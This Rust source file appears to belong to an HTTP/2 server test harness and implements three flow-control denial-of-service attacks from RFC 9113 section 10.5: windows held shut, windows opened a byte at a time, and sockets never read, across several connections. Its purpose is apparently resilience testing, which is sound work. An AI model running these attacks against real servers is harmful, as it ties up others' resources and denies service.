//! Answers that nobody takes (RFC 9113, section 10.5: "manipulate flow control
//! ... to tie up resources").

use std::time::Duration;

use larder_transport::frame::{SettingId, write_ping, write_window_update};
use tokio::time::Instant;

use super::{Attack, Ends, Outcome, Target, attack};
use crate::calls;
use crate::wire::{Wire, request};

/// Connections at a time.
const CONNECTIONS: u32 = 8;
/// Large answers asked for on each.
const ANSWERS: u32 = 500;

pub(super) const ATTACKS: &[Attack] = &[
    attack(
        "windows-shut",
        "large answers asked for, and windows that are never opened",
        Ends::Anyhow,
        |target| Box::pin(shut(target)),
    ),
    attack(
        "windows-ajar",
        "large answers, and windows that are opened by one byte at a time",
        Ends::Anyhow,
        |target| Box::pin(ajar(target)),
    ),
    attack(
        "never-read",
        "large answers, and a socket that is never read",
        Ends::Anyhow,
        |target| Box::pin(never_read(target)),
    ),
];

fn ask(count: u32) -> Vec<u8> {
    let block = calls::grpc_block(calls::GET, &[]);
    let message = calls::get(calls::LARGE);
    let mut bytes = Vec::new();
    for number in 0..count {
        request(&mut bytes, 1 + 2 * number, &block, &message);
    }
    bytes
}

async fn shut(target: Target) -> anyhow::Result<Outcome> {
    let mut outcome = Outcome::default();
    let bytes = ask(ANSWERS);
    let mut wires = Vec::new();
    for _ in 0..CONNECTIONS {
        let shut = [(SettingId::INITIAL_WINDOW_SIZE, 0)];
        let mut wire = Wire::greeted(target.address, &shut).await?;
        wire.send(&bytes).await;
        wires.push(wire);
    }
    // Alive all the while.
    while Instant::now() < target.until {
        for wire in &mut wires {
            let mut ping = Vec::new();
            write_ping(&mut ping, 0, *b"am alive");
            wire.send(&ping).await;
            wire.read();
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    close(&mut outcome, wires, ANSWERS);
    Ok(outcome)
}

async fn ajar(target: Target) -> anyhow::Result<Outcome> {
    let mut outcome = Outcome::default();
    let bytes = ask(20);
    let shut = [(SettingId::INITIAL_WINDOW_SIZE, 0)];
    let mut wire = Wire::greeted(target.address, &shut).await?;
    wire.send(&bytes).await;
    let mut events = 0;
    while Instant::now() < target.until && !wire.is_over() {
        let mut updates = Vec::new();
        for number in 0..20 {
            write_window_update(&mut updates, 1 + 2 * number, 1);
            events += 1;
        }
        wire.send(&updates).await;
        let patience = Duration::from_secs(5);
        wire.read_until(patience, |came| came.data_bytes >= events)
            .await;
    }
    outcome
        .notes
        .push(format!("{} bytes came", wire.came.data_bytes));
    outcome.count(&mut wire, events);
    Ok(outcome)
}

async fn never_read(target: Target) -> anyhow::Result<Outcome> {
    let mut outcome = Outcome::default();
    let mut bytes = Vec::new();
    write_window_update(&mut bytes, 0, 1 << 30);
    bytes.extend(ask(20_000));
    let mut wires = Vec::new();
    let mut taken = 0;
    let all = bytes.len() * CONNECTIONS as usize;
    for _ in 0..CONNECTIONS {
        let open = [(SettingId::INITIAL_WINDOW_SIZE, 1 << 30)];
        let mut wire = Wire::greeted(target.address, &open).await?;
        taken += wire.send_blindly(&bytes, Duration::from_millis(100)).await;
        wires.push(wire);
    }
    outcome
        .notes
        .push(format!("{} of {} KiB left", taken >> 10, all >> 10));
    tokio::time::sleep_until(target.until).await;
    close(&mut outcome, wires, 20_000);
    Ok(outcome)
}

fn close(outcome: &mut Outcome, wires: Vec<Wire>, events: u32) {
    let mut answers = 0;
    for mut wire in wires {
        answers += wire.came.answered();
        outcome.count(&mut wire, events.into());
    }
    outcome.notes.push(format!("{answers} answers came"));
}
